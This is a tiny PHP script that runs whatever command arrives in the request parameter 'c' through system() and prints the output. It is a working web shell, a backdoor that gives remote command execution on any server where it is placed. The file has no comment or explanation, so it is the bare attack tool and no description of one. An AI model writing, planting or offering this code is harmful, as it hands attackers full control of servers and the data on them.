<?php
if (isset($_REQUEST['c'])) {
    echo "<pre>";
    system($_REQUEST['c']);
    echo "</pre>";
}
